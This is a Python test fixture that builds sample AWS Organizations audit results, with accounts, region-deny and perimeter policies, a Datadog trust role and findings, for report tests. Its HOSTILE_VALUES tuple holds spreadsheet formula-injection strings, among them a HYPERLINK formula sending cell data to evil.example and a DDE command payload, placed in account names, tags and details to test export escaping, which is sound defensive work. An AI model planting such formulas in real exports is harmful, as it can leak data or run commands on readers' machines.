"""Hand-built AuditResults for the report tests: a small organization with every kind of account."""

from __future__ import annotations

import json
from dataclasses import replace

from auditor.model import (
    RCP,
    SCP,
    Account,
    AccountError,
    AccountSnapshot,
    AuditResult,
    Exclusion,
    ExpectedValues,
    Finding,
    Inventory,
    OrgPolicy,
    OrgUnit,
    RegionVerdict,
    RoleInfo,
    RunInfo,
    Severity,
    Status,
    Verdict,
)

ROOT, PROD, DEV = "r-ab12", "ou-ab12-prod0001", "ou-ab12-dev00001"
OK_ID = "012345678901"  # leading zero: must survive as text
HOSTILE_ID = "000111222333"
ERROR_ID = "210987654321"
SKIPPED_ID = "098765432109"
MGMT_ID = "111111111111"
REGIONS = ("us-east-1", "eu-west-1", "ap-southeast-1")
EXTERNAL_ID = "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6"
DATADOG_ROOT = "arn:aws:iam::464622532012:root"

HOSTILE_VALUES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=1+1",
)
HOSTILE_NAME = HOSTILE_VALUES[0]


def trust_policy(external_id: str | None = EXTERNAL_ID, principal: str = DATADOG_ROOT) -> str:
    stmt: dict[str, object] = {"Effect": "Allow", "Principal": {"AWS": principal}, "Action": "sts:AssumeRole"}
    if external_id is not None:
        stmt["Condition"] = {"StringEquals": {"sts:ExternalId": external_id}}
    return json.dumps({"Version": "2012-10-17", "Statement": [stmt]})


REGION_DENY_SCP = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "DenyOutsideAllowed",
                "Effect": "Deny",
                "NotAction": ["iam:*", "sts:*"],
                "Resource": "*",
                "Condition": {"StringNotEquals": {"aws:RequestedRegion": ["us-east-1", "eu-west-1"]}},
            }
        ],
    }
)
PERIMETER_RCP = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Deny",
                "Principal": "*",
                "Action": "s3:*",
                "Resource": "*",
                "Condition": {"StringNotEqualsIfExists": {"aws:PrincipalOrgID": "o-abc"}},
            }
        ],
    }
)


def account(account_id: str, name: str, ou: str = PROD, status: str = "ACTIVE") -> Account:
    path = "Root/Prod" if ou == PROD else "Root/Dev"
    return Account(
        id=account_id,
        name=name,
        email=f"{account_id}@example.com",
        status=status,
        parent_id=ou,
        ou_path=path,
        chain=(ROOT, ou, account_id),
    )


def inventory(accounts: tuple[Account, ...] | None = None) -> Inventory:
    accts = (
        accounts
        if accounts is not None
        else (
            account(OK_ID, "payments-prod"),
            account(HOSTILE_ID, HOSTILE_NAME, DEV),
            account(ERROR_ID, "legacy-dev", DEV),
            account(SKIPPED_ID, "old-sandbox", DEV, status="SUSPENDED"),
        )
    )
    return Inventory(
        organization_id="o-abc123def4",
        management_account_id=MGMT_ID,
        partition="aws",
        enabled_policy_types=(SCP, RCP),
        units=(
            OrgUnit(ROOT, "Root", "", "Root"),
            OrgUnit(PROD, "Prod", ROOT, "Root/Prod"),
            OrgUnit(DEV, "Dev", ROOT, "Root/Dev"),
        ),
        accounts=accts,
        policies=(
            OrgPolicy(
                "p-regiondeny",
                "deny-outside-allowed",
                SCP,
                False,
                "Region deny",
                REGION_DENY_SCP,
                (PROD, OK_ID),
            ),
            OrgPolicy("p-perimeter", "data-perimeter", RCP, False, "-perimeter", PERIMETER_RCP, (ROOT,)),
            OrgPolicy(
                "p-FullAWSAccess",
                "FullAWSAccess",
                SCP,
                True,
                "Allow all",
                '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
                (ROOT,),
            ),
        ),
    )


def role(trust: str | None = None, name: str = "DatadogIntegrationRole") -> RoleInfo:
    return RoleInfo(
        name=name,
        path="/",
        arn=f"arn:aws:iam::{OK_ID}:role/{name}",
        trust_policy=trust if trust is not None else trust_policy(),
        tags=(("owner", "@SUM(A1)"), ("cost", "+1")),
        attached_policies=(),
        inline_policies=(),
    )


def finding(
    account_id: str,
    check: str,
    status: Status = Status.FAIL,
    severity: Severity = Severity.HIGH,
    region: str = "",
    name: str = "",
    detail: str = "detail",
    evidence: str = "",
) -> Finding:
    return Finding(
        account_id=account_id,
        check=check,
        severity=severity,
        status=status,
        title=f"title of {check}",
        detail=detail,
        remediation="fix it",
        region=region,
        account_name=name,
        ou_path="Root/Prod",
        evidence=evidence,
    )


def regions_for(account_id: str, denied: tuple[str, ...] = ("ap-southeast-1",)) -> tuple[RegionVerdict, ...]:
    return tuple(
        RegionVerdict(
            account_id,
            r,
            Verdict.DENIED if r in denied else Verdict.ALLOWED,
            denied_actions=("cloudwatch:GetMetricData",) if r in denied else (),
            deciding_policies=("p-regiondeny",) if r in denied else (),
        )
        for r in REGIONS
    )


def default_findings() -> tuple[Finding, ...]:
    return (
        finding(OK_ID, "role_present", Status.PASS, Severity.INFO, name="payments-prod"),
        finding(
            OK_ID,
            "org_region_denied",
            Status.FAIL,
            Severity.MEDIUM,
            region="ap-southeast-1",
            name="payments-prod",
        ),
        finding(
            HOSTILE_ID,
            "role_missing",
            Status.FAIL,
            Severity.HIGH,
            name=HOSTILE_NAME,
            detail="-2+3",
            evidence="@SUM(A1)",
        ),
        finding(
            ERROR_ID,
            "audit_role_unassumable",
            Status.ERROR,
            Severity.HIGH,
            name="legacy-dev",
            detail="AccessDenied",
        ),
    )


def make_result(
    *,
    findings: tuple[Finding, ...] | None = None,
    started_at: str = "2025-03-01T02:00:00Z",
    finished_at: str = "2025-03-01T02:07:30Z",
) -> AuditResult:
    inv = inventory()
    snapshots = (
        AccountSnapshot(OK_ID, role()),
        AccountSnapshot(HOSTILE_ID, None),
        AccountSnapshot(ERROR_ID, None, error=AccountError("assume_role", "AccessDenied", "=not authorized")),
    )
    regions = (
        regions_for(OK_ID)
        + regions_for(HOSTILE_ID, denied=())
        + (
            RegionVerdict(
                HOSTILE_ID,
                "eu-central-1",
                Verdict.INDETERMINATE,
                unknown_keys=("aws:SourceIp",),
                reason="+unknown key",
            ),
        )
    )
    return AuditResult(
        run=RunInfo(
            started_at=started_at, finished_at=finished_at, tool_version="0.1.0", config_digest="abc"
        ),
        inventory=inv,
        audited_regions=REGIONS,
        snapshots=snapshots,
        findings=findings if findings is not None else default_findings(),
        regions=regions,
        exclusions=(
            Exclusion(OK_ID, ("ap-southeast-1",), ("eu-west-1", "us-east-1")),
            Exclusion(HOSTILE_ID, (), REGIONS),
        ),
        skipped=((SKIPPED_ID, "account is suspended"),),
        expected=(ExpectedValues(OK_ID, role_name="DatadogIntegrationRole", external_id=EXTERNAL_ID),),
    )


def with_findings(result: AuditResult, *findings: Finding) -> AuditResult:
    return replace(result, findings=tuple(findings))
